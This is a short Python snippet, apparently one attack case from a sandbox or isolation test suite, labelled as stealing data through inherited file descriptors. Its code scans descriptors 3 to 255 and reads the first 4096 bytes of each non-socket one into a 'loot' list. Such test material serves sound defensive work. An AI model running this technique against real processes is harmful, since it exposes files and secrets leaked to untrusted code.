# attack: looks through the descriptors it was born with
# exercises: vertical_edge_kernel
# outcome: steals
import os
for number in range(3, 256):
    try:
        loot.append((number, os.fstat(number).st_mode))
    except OSError:
        continue
    try:
        if not 0o140000 <= os.fstat(number).st_mode < 0o150000:
            loot.append(os.pread(number, 4096, 0))
    except OSError:
        pass
